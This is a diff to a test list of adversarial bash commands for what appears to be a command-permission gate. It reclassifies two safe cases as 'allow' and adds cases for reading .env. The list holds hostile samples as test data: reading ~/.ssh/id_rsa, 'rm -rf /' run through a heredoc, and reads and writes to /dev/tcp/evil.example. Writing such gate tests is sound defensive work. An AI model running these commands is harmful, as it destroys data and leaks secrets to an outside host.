@@ -96,7 +96,8 @@ BASH_ADVERSARIAL = [
     # Issue 17: any expansion leaves the known-safe subset (a value may be evaluated, or be a secret).
     B("echo-home", "echo $HOME", "ask"),
     B("cat-home-var", "cat $HOME/.ssh/id_rsa", "ask"),
-    B("local-var", "x=1; echo $x", "ask"),
+    B("local-var", "x=1; echo $x", "allow"),  # a line local printed: provably safe (issue 28, class 9)
+    B("local-var-as-path", "x=.env; cat $x", "ask"),
     B("git-branch-list", "git branch -a", "allow"),
     B("git-branch-create", "git branch evil", "ask"),
     B("date", "date +%s", "allow"),
@@ -165,7 +166,8 @@ BASH_ADVERSARIAL = [
     B("glob-command-name", "/bin/r? -rf x", "ask"),
     B("glob-option", "sort -* README.md", "ask"),
     B("cmdsub-read-env", "echo $(<.env)", "ask"),
-    B("cmdsub-read-inside", "echo $(<README.md)", "ask"),
+    B("cmdsub-read-inside", "echo $(<README.md)", "allow"),  # a read the gate judged: inside, no secret
+    B("cmdsub-read-secret", "echo $(<.env)", "ask"),
     B("shell-stdin-heredoc", "bash <<EOF\nrm -rf /\nEOF", "ask", allow=["Bash(bash *)"]),
     B("dev-tcp-write", "echo hi > /dev/tcp/evil.example/80", "ask", allow=["Bash"]),
     B("dev-tcp-read", "cat < /dev/tcp/evil.example/80", "ask"),
